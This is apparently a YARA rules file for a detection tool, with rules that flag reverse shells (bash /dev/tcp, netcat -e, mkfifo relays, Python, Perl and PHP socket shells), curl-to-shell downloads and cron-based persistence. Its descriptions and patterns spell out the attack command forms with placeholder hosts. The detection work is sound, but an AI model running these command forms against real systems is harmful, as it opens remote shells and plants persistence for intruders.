/*
 * reverse_shells.yar - shells wired to a network socket, and payloads fetched and run, in
 * scripts and in cron tables. deltair's own rules (docs/rules.md).
 */

rule revshell_bash_dev_tcp
{
	meta:
		description = "Interactive shell redirected to bash's /dev/tcp or /dev/udp pseudo-device (bash -i >& /dev/tcp/HOST/PORT 0>&1, exec 5<>/dev/tcp/...)"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1059/004/"
	strings:
		$i = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?\s*[<>]\s*&?\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
		$dup = /\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}\s+0\s*>\s*&\s*1/
		$exec = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\//
	condition:
		any of them
}

rule revshell_netcat_exec
{
	meta:
		description = "netcat handing a shell to a connection (nc -e /bin/sh, ncat -c bash) or the mkfifo relay (sh -i < fifo | nc HOST PORT > fifo)"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1059/004/"
	strings:
		$e = /\b(nc|ncat|netcat|nc\.traditional)\s[^\n;|]{0,100}-[a-z]{0,4}[ec]\s*["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
		$fifo = /\bmkfifo\s[^\n]{0,200}\b(ba|z|k|da)?sh\s+-i[^\n]{0,100}\|\s*(nc|ncat|netcat|telnet)\s/
	condition:
		any of them
}

rule revshell_python_socket_pty
{
	meta:
		description = "Python that connects a socket, duplicates it onto stdin/stdout/stderr and starts a shell (pty.spawn or subprocess)"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1059/006/"
	strings:
		$sock = "socket.socket(" ascii
		$connect = /\.connect\s*\(\s*\(/
		$dup = /os\.dup2\s*\(\s*[a-zA-Z_][a-zA-Z0-9_]{0,30}\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/
		$pty = /pty\.spawn\s*\(\s*["'](\/usr)?\/bin\/(ba|z|k|da)?sh/
		$sub = /subprocess\.(call|Popen|run)\s*\(\s*\[\s*["'](\/usr)?\/bin\/(ba|z|k|da)?sh["']\s*,\s*["']-i/
	condition:
		$sock and $connect and $dup and ($pty or $sub)
}

rule revshell_perl_socket
{
	meta:
		description = "Perl that opens a socket, points STDIN/STDOUT at it and execs a shell"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1059/004/"
	strings:
		$use = "use Socket" ascii
		$connect = /\bconnect\s*\(\s*[A-Z_]{1,16}\s*,/
		$open = /\bopen\s*\(\s*STD(IN|OUT)\s*,\s*["']?[>+<]{1,3}\s*&/
		$exec = /\b(exec|system)\s*\(?\s*["'](\/usr)?\/bin\/(ba|z|k|da)?sh/
	condition:
		$use and $connect and $open and $exec
}

rule revshell_php_fsockopen
{
	meta:
		description = "PHP that opens a socket with fsockopen and runs an interactive shell on its descriptor (sh -i <&3 >&3)"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1059/004/"
	strings:
		$sock = /\bfsockopen\s*\(/
		$sh = /\b(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh\s+-i/
	condition:
		$sock and $sh
}

rule download_pipe_shell
{
	meta:
		description = "Download piped straight into a shell or interpreter (curl URL | sh, wget -O- URL | bash): run without being kept; installers do it too"
		severity = "medium"
		reference = "https://attack.mitre.org/techniques/T1105/"
	strings:
		$pipe = /\b(curl|wget)\s[^\n|;]{0,300}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|python[0-9.]*|perl)\b/
	condition:
		$pipe
}

rule cron_reverse_shell_or_download
{
	meta:
		description = "Cron table (/etc/crontab, /etc/cron.*/, /var/spool/cron/, /etc/anacrontab) running a download piped to a shell, a /dev/tcp or netcat shell, or base64-decoded shell code"
		severity = "critical"
		reference = "https://attack.mitre.org/techniques/T1053/003/"
	strings:
		$dl = /\b(curl|wget)\s[^\n|;]{0,300}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|python[0-9.]*|perl)\b/
		$tcp = /\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
		$nc = /\b(nc|ncat|netcat)\s[^\n;|]{0,100}-[a-z]{0,4}[ec]\s*["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
		$b64 = /\bbase64\s+(-d|--decode)\b[^\n]{0,40}\|\s*(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
	condition:
		(filepath == "/etc/crontab" or filepath startswith "/etc/cron." or
		 filepath startswith "/var/spool/cron/" or filepath == "/etc/anacrontab") and
		any of them
}

rule script_installs_cron_payload
{
	meta:
		description = "Script that writes a cron entry (| crontab -, >> /etc/cron..., /var/spool/cron) carrying a download-and-run or reverse-shell payload"
		severity = "high"
		reference = "https://attack.mitre.org/techniques/T1053/003/"
	strings:
		$cron1 = /\|\s*crontab\s+-/
		$cron2 = /(>>?|tee\s+(-a\s+)?)\s*["']?\/(etc\/cron|var\/spool\/cron)/
		$dl = /\b(curl|wget)\s[^\n|;]{0,300}\|\s*(sudo\s+)?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|python[0-9.]*|perl)\b/
		$tcp = /\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
		$nc = /\b(nc|ncat|netcat)\s[^\n;|]{0,100}-[a-z]{0,4}[ec]\s*["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
	condition:
		any of ($cron*) and any of ($dl, $tcp, $nc)
}
